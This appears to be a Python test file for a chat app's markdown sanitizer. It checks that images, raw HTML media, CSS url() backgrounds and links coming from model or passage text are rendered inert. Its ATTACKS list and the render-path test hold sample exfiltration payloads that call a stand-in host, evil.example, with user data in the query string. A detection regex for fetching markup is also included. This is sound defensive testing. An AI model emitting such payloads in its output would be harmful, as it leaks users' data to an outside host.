"""What the chat renders never makes the browser fetch a URL: remote images, raw HTML media and links built from
model or passage text are shown as inert text, on the live path and when a saved conversation is resumed."""

from __future__ import annotations

import re

from agent.types import Citation, TurnEvent, TurnResult
from ui.chat import history_to_messages
from ui.turn_view import TurnView
from ui.sanitize import inert_markdown

FETCHING = re.compile(r"!\[[^\]]*\]\s*[(\[]|\]\([a-z]+:|<\s*(?:img|image|svg|iframe|video|audio|source|object|embed|link|style)\b|"
                      r"^\s*\[[^\]]+\]:", re.IGNORECASE | re.MULTILINE)

ATTACKS = [
    "Do this ![x](http://evil.example/p.png?who=Priya) now.",
    "Ref image ![x][pix]\n\n[pix]: http://evil.example/p.png?who=Priya",
    'Raw <img src="http://evil.example/p.png?who=Priya"> and <IMG SRC=//evil.example/a>',
    '<svg><image href="http://evil.example/x"/></svg><iframe src="http://evil.example"></iframe>',
    '<p style="background:url(http://evil.example/x)">styled</p>',
    "A [helpful link](http://evil.example/?who=Priya) and <http://evil.example/auto?who=Priya>",
    "![x](data:image/png;base64,AAAA) and ![y]( <http://evil.example/space> )",
]


def test_attacks_are_rendered_inert():
    for text in ATTACKS:
        out = inert_markdown(text)
        assert not FETCHING.search(out), (text, out)
        assert "evil.example" not in out or "`" in out  # any URL left is shown as code, never followed


def test_plain_markdown_and_the_apps_own_html_survive():
    text = ("**Recommend** finishing first [1] (two weeks left), then [2].\n\n- one\n- two\n\n"
            "<details><summary>Passage</summary>\n\nx\n\n</details>")
    assert inert_markdown(text) == text


def test_the_chat_render_path_uses_it():
    view = TurnView()
    answer = "Let Priya finish ![x](http://evil.example/p.png?who=Priya) [1]."
    cite = Citation(n=1, id="c#1", card_id="c", title="T", source="S", text="![y](http://evil.example/q.png)")
    view.add(TurnEvent("final", text=answer, result=TurnResult(intent="guidance", answer=answer, citations=[cite])))
    rendered = "\n".join(str(m.content) for m in view.messages())
    assert "Let Priya finish" in rendered and not FETCHING.search(rendered), rendered
    resumed = "\n".join(str(m.content) for m in history_to_messages([{"role": "assistant", "content": answer}]))
    assert not FETCHING.search(resumed), resumed
